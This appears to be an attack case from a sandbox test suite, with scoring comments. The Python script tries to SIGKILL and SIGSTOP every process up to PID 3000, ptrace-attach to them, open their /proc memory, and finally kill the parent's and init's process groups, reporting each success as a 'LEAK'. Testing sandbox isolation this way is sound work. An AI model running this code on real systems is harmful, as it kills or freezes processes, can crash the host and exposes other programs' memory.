# attack: Signals, traces and reads the memory of everything it can name, its bubblewrap first.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

import ctypes
import os
import signal

libc = ctypes.CDLL(None)
me = os.getpid()
for pid in [1, 2, 3, os.getppid(), *range(2, 3000)]:
    if pid == me:
        continue
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, number)
            print("LEAK signalled", pid, flush=True)
        except OSError:
            pass
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("LEAK traced", pid, flush=True)
    try:
        open(f"/proc/{pid}/mem", "rb").close()
        print("LEAK memory of", pid, flush=True)
    except OSError:
        pass
for group in (os.getppid(), 1):
    try:
        os.killpg(group, signal.SIGKILL)
    except OSError:
        pass
